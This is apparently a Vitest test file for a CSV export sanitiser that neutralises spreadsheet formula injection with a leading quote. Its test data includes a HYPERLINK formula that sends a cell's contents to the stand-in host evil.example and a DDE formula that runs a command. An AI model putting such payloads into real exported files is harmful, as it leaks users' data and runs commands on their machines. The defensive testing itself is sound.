import { describe, expect, it } from 'vitest';
import { csvCast, csvText } from './csv-cell.ts';

describe('csvText (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&B2,"Refund")',
      `'=HYPERLINK("http://evil.example/?d="&B2,"Refund")`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['-', "'-"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('writes %j with a leading quote', (hostile, written) => {
    expect(csvText(hostile)).toBe(written);
  });

  it.each(['Château Margaux 1982', 'a=b', 'x@example.com', "'already quoted", '', ' =1'])(
    'keeps %j as it is',
    (text) => {
      expect(csvText(text)).toBe(text);
    },
  );

  it('keeps plain numbers, negative money amounts included, as numbers', () => {
    expect(csvText('-12.05')).toBe('-12.05');
    expect(csvText('-3')).toBe('-3');
    expect(csvText('120.00')).toBe('120.00');
  });

  it('is the string cast csv-stringify takes', () => {
    expect(csvCast.string('=1+1')).toBe("'=1+1");
  });
});
